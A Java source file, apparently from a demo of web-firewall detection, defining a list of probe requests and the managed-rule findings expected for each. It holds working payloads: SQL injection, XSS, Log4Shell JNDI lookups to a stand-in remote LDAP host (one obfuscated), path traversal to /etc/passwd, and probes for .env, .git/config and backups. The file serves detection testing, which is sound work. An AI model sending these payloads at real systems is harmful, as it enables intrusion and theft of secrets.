package dev.kamae.demo.traffic;

import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * A request that looks for a hole.
 *
 * @param agent in place of the sender's own; null keeps it
 * @param finding what a managed rule sees in it; null when none does
 */
record Probe(
        String uri,
        String args,
        @Nullable String agent,
        @Nullable Finding finding) {

    private static final String LOOKUP = "${jndi:ldap://203.0.113.66:1389/a}";

    static final List<Probe> ALL = List.of(
            sql("q=1%27%20OR%20%271%27%3D%271", "q", "1'", "OR", "'1'='1"),
            sql("q=%27%20UNION%20SELECT%20null,version()--", "q", "UNION", "SELECT", "null"),
            sql("page=1;WAITFOR%20DELAY%20%270:0:5%27", "page", "1;WAITFOR", "DELAY", "'0:0:5'"),
            sql("sort=(select(0)from(select(sleep(5)))v)", "sort", "(select(0)from(select(sleep(5)))v)"),
            xss("q=%3Cscript%3Ealert(1)%3C/script%3E", "<script>", "alert(1)"),
            xss("q=%22%3E%3Cimg%20src=x%20onerror=alert(document.domain)%3E", "<img", "src=x", "onerror="),
            of("/", "x=" + LOOKUP, null, Finding.Kind.LOG4J_QUERY),
            of("/", "", LOOKUP, Finding.Kind.LOG4J_HEADER),
            of("/search", "", "${${lower:j}ndi:${lower:l}dap://203.0.113.66/x}", Finding.Kind.LOG4J_HEADER),
            of("/../../../../etc/passwd", "", null, Finding.Kind.FILE_IN_PATH),
            of("/help", "file=../../../../etc/passwd%00", null, Finding.Kind.FILE_IN_QUERY),
            of("/.env", "", null, Finding.Kind.SECRET_FILE),
            of("/backup/db.bak", "", null, Finding.Kind.SECRET_FILE),
            of("/.git/config", "", null, Finding.Kind.EXPLOITABLE_PATH),
            of("/WEB-INF/web.xml", "", null, Finding.Kind.EXPLOITABLE_PATH),
            unseen("/wp-login.php", ""),
            unseen("/phpmyadmin/index.php", "lang=en"),
            unseen("/actuator/env", ""),
            unseen("/search", "q=%2527%2520OR%25201%253D1"),
            unseen("/api/suggest", "q[$ne]=1"));

    private static Probe sql(String args, String field, String... matched) {
        return new Probe("/search", args, null, new Finding(Finding.Kind.SQL_QUERY, List.of(matched), field));
    }

    private static Probe xss(String args, String... matched) {
        return new Probe("/search", args, null, new Finding(Finding.Kind.XSS_QUERY, List.of(matched), "q"));
    }

    private static Probe of(String uri, String args, @Nullable String agent, Finding.Kind kind) {
        return new Probe(uri, args, agent, Finding.of(kind));
    }

    private static Probe unseen(String uri, String args) {
        return new Probe(uri, args, null, null);
    }

    Request by(Client client, long at) {
        var sender = agent == null ? client : client.with(client.agent().calledItself(agent));
        var request = Request.get(sender, at, uri).asking(args);
        return finding == null ? request : request.findable(finding);
    }
}
